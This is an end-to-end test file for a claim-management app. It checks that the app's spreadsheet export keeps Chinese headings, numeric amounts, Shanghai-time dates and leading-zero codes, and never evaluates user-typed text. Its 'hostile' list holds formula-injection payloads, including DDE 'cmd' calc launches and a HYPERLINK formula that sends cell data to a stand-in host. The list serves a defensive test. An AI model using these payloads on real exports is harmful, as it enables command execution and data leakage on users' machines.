import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { madeIdOf, press, soundValues } from "#e2e/claim-posts.ts";
import { as } from "#e2e/screen.ts";
import { office, readWithOffice, withoutOffice, type SheetCell } from "#e2e/spreadsheet.ts";
import type { Account, Answer } from "#e2e/visitor.ts";

/** Texts a spreadsheet would compute, or have a program computed for it, when it takes them for formulas. */
const hostile = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://example.invalid/?"&A1,"查看")`,
  "+86 21 5555 0000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
];
/** All digits, zeros first: what a spreadsheet likes to take for a number. */
const workOrders = `000${process.pid}${Date.now()}`;

type Row = Record<string, SheetCell>;

async function exported(account: Account, list: string): Promise<{ page: Answer; rows: Row[] }> {
  const visitor = await as(account);
  const page = await visitor.get(list);
  const link = page.$("a:contains('导出')").attr("href");
  if (!link) throw new Error(`${list} offers no export`);
  return { page, rows: await readWithOffice((await visitor.get(link)).bytes) };
}

/** What the list shows under a heading, by claim number. */
function shownUnder(page: Answer, heading: string): Map<string, string> {
  const headings = page
    .$("table thead th")
    .toArray()
    .map((cell) => page.$(cell).text().trim());
  const column = headings.findIndex((text) => text === heading || text.startsWith(`${heading} `));
  if (column < 0) throw new Error(`no column ${heading} among ${headings.join()}`);
  const rows = page.$("table tbody tr").toArray();
  return new Map(
    rows.map((row) => {
      const cells = page.$(row).children().toArray();
      return [page.$(row).children("th").text().trim(), page.$(cells[column]).text().trim()];
    }),
  );
}

describe("the export opened by LibreOffice", () => {
  beforeEach(({ skip }) => skip(!office, withoutOffice));

  let made: string[];
  beforeAll(async () => {
    if (!office) return;
    const visitor = await as("d10001");
    made = [];
    for (const [index, remark] of hostile.entries()) {
      const values = soundValues({ workOrderNumber: `${workOrders}${index}`, remark });
      made.push(madeIdOf(await press(visitor, await visitor.get("/claim/create"), "submit", values)));
    }
  });

  describe.each([
    { account: "d10001", list: "/claim/search?size=50" },
    { account: "zhangwei", list: "/companyclaim/search?size=50" },
  ] as const)("of $account", ({ account, list }) => {
    let page: Answer;
    let rows: Row[];
    beforeAll(async () => {
      if (!office) return;
      ({ page, rows } = await exported(account, list));
    });

    it("has its headings in Chinese, claimed and adjusted amounts among them", () => {
      const headings = Object.keys(rows[0] ?? {});
      expect(headings).toEqual(expect.arrayContaining(["索赔单号", "车架号(VIN)", "创建日期", "申报金额", "调整后金额"]));
      expect(headings.filter((heading) => !/\p{Script=Han}/u.test(heading))).toEqual([]);
    });

    it("has amounts as numbers, shown with two decimals and the same as the list's", () => {
      const undecided = (row: Row) => ["草稿", "待批准", "需更正"].includes(row["状态"]?.text ?? "");
      const numbers = rows.flatMap((row) =>
        ["申报金额", ...(undecided(row) ? [] : ["调整后金额"]), "零件费合计", "工时费合计"].map((heading) => row[heading]),
      );
      expect(numbers.filter((cell) => cell?.type !== "float" || !/^-?[\d,]+\.\d{2}$/.test(cell.text))).toEqual([]);
      for (const heading of ["申报金额", "调整后金额"]) {
        const shown = shownUnder(page, heading);
        expect(shown.size).toBeGreaterThan(20);
        const inFile = rows.filter((row) => shown.has(row["索赔单号"]?.text ?? ""));
        expect(inFile).toHaveLength(shown.size);
        // Where the list has a dash, the cell is empty.
        for (const row of inFile) expect(row[heading]?.text ?? "").toBe(shown.get(row["索赔单号"]?.text ?? "")?.replace(/^[^\d-]+/, ""));
      }
      expect(rows.some((row) => row["申报金额"]?.value !== row["调整后金额"]?.value)).toBe(true);
    });

    it("has days and moments as dates, in Shanghai's time and the same as the list's", () => {
      for (const row of rows) {
        expect(row["故障日期"]).toMatchObject({ type: "date", value: row["故障日期"]?.text });
        // Of midnight it writes the day alone.
        expect(row["创建日期"]).toMatchObject({ type: "date", value: expect.stringMatching(/^\d{4}-\d\d-\d\d(T\d\d:\d\d|$)/) });
        const [day, time = "00:00"] = row["创建日期"]?.value?.slice(0, 16).split("T") ?? [];
        expect(row["创建日期"]?.text).toBe(`${day} ${time}`);
      }
      const shown = shownUnder(page, "创建日期");
      const inFile = rows.filter((row) => shown.has(row["索赔单号"]?.text ?? ""));
      expect(inFile.map((row) => row["创建日期"]?.text.slice(0, 10))).toEqual(inFile.map((row) => shown.get(row["索赔单号"]?.text ?? "")));
    });

    it("keeps codes of digits with the zeros in front of them as text", () => {
      const codes = rows.map((row) => row["工单号"]).filter((cell) => cell?.text.startsWith(workOrders));
      expect(codes).toHaveLength(made.length);
      expect(codes.filter((cell) => cell?.type !== "string")).toEqual([]);
      // A draft may have none yet.
      const vins = rows.map((row) => row["车架号(VIN)"]).filter((cell) => cell?.text !== "");
      expect(vins.length).toBeGreaterThan(20);
      expect(vins.filter((cell) => cell?.type !== "string")).toEqual([]);
    });

    it("computes nothing of what somebody typed, and shows all of it", () => {
      const cells = rows.flatMap((row) => Object.values(row));
      expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
      const remarks = rows.filter((row) => row["工单号"]?.text.startsWith(workOrders)).map((row) => row["备注"]);
      expect(remarks).toHaveLength(hostile.length);
      for (const text of hostile) {
        const visible = text.replace(/\s+/g, "");
        const cell = remarks.find((remark) => remark?.text.replace(/\s+/g, "") === visible);
        expect(cell, JSON.stringify([text, remarks])).toMatchObject({ type: "string" });
      }
    });
  });
});
